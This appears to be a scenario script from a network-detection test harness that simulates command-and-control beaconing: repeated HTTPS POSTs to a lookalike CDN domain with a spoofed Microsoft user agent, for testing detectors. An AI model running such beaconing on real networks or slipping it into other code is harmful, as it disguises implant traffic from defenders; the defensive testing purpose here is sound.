# Attack: command-and-control beaconing. The laptop checks in with one external host over
# HTTPS every 2 s (+-0.1 s) for 2 minutes, a small POST each time, its name looked up each
# time. Time is compressed: real implants beacon every 30-300 s.
DESCRIPTION="HTTPS POST to one C2 host every 2 s (+-5%) for 60 rounds"

scenario() {
    local n=${NG_BEACON_COUNT:-60} i
    [ "${NG_FAST:-0}" = 1 ] && n=20
    for ((i = 0; i < n; i++)); do
        browse laptop "https://cdn-updates.azureedge-sync.com/api/v2/check" -X POST \
            -H 'Content-Type: application/octet-stream' --data-binary "id=5f3a9c&seq=$i" \
            -A "Microsoft-CryptoAPI/10.0"
        jsleep "${NG_BEACON_INTERVAL:-2}" 0.1
    done
}
